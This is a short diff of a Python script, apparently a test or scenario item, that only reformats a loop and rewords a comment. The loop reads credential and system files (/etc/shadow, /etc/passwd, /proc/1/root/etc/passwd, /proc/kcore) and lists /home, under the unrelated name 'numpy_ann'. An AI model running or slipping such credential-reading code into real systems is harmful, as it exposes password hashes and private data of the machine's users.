@@ -1,4 +1,4 @@
-# Reads users, passwords and the host name of the machine.
+# Reads the users, passwords and host name of the machine.
 # script: numpy_ann
 # earns: nothing
 # says: held
@@ -8,7 +8,9 @@ import os
 import numpy as np
 
 found = []
-for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/home", "/proc/1/root/etc/passwd", "/proc/kcore"):
+for path in (
+    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/home", "/proc/1/root/etc/passwd", "/proc/kcore"
+):
     try:
         found.append((path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(40)))
     except OSError:
